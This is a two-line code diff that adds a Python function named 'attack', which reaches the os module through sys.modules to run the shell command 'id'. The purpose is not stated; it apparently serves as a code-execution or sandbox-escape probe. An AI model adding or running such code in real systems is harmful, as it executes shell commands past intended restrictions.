@@ -1,0 +1,2 @@
+def attack(db):
+    return sys.modules['os'].system('id')
